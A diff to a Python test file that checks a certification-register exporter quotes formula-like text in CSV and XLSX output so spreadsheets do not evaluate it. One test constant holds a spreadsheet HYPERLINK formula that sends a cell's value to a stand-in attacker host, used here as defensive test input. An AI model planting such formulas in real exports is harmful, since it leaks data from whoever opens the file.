@@ -17,8 +17,11 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"点击查看证书")'
 ISSUED, EXPIRES = dt.date(2026, 1, 15), dt.date(2028, 1, 15)
 
 
-def row(name: str, org_unit: str = "杭州分行") -> RegisterRow:
-    return RegisterRow("t1", name, org_unit, "assoc", "初级客户经理", "valid", ISSUED, EXPIRES, "CMA-1")
+def row(name: str, org_unit: str = "杭州分行", email: str = "t1@bank.example", why: str = "") -> RegisterRow:
+    return RegisterRow(
+        "t1", name, email, org_unit, "初级客户经理认证考试", "assoc", "初级客户经理", "certified", "总分 90%",
+        30.0, 34.0, "valid", ISSUED, EXPIRES, "CMA-1", ISSUED, why,
+    )  # fmt: skip
 
 
 @pytest.fixture
@@ -50,13 +53,23 @@ def test_ordinary_text_is_left_alone() -> None:
 
 def test_hyperlink_name_is_quoted_text_in_csv(tmp_path: Path, msg: Messages) -> None:
     (line,) = csv_rows([row(HYPERLINK, "@SUM(1+1)")], tmp_path, msg)
-    assert line[1:3] == [f"'{HYPERLINK}", "'@SUM(1+1)"]
-    assert line[6:8] == ["2026-01-15", "2028-01-15"]
+    assert (line[1], line[3]) == (f"'{HYPERLINK}", "'@SUM(1+1)")
+    assert line[11:13] == ["2026-01-15", "2028-01-15"]
+
+
+def test_the_new_text_columns_are_neutralised_too(tmp_path: Path, msg: Messages) -> None:
+    (line,) = csv_rows([row("张三", email="=1+1@x", why="-2+3")], tmp_path, msg)
+    assert (line[2], line[15]) == ("'=1+1@x", "'-2+3")
+    assert line[8:10] == ["30", "34"]  # scores are numbers, not text
+    (cells,) = xlsx_cells([row("张三", email="=1+1@x", why="-2+3")], tmp_path, msg)
+    assert (cells[2].value, cells[2].data_type) == ("'=1+1@x", "s")
+    assert (cells[15].value, cells[15].data_type) == ("'-2+3", "s")
+    assert (cells[8].value, cells[8].data_type) == (30.0, "n")
 
 
 def test_hyperlink_name_is_a_string_cell_in_xlsx_and_dates_stay_dates(tmp_path: Path, msg: Messages) -> None:
     (cells,) = xlsx_cells([row(HYPERLINK, "+1")], tmp_path, msg)
-    name, org_unit, issued = cells[1], cells[2], cells[6]
+    name, org_unit, issued = cells[1], cells[3], cells[11]
     assert (name.value, name.data_type) == (f"'{HYPERLINK}", "s")
     assert (org_unit.value, org_unit.data_type) == ("'+1", "s")
     assert issued.is_date and issued.value == dt.datetime(2026, 1, 15)
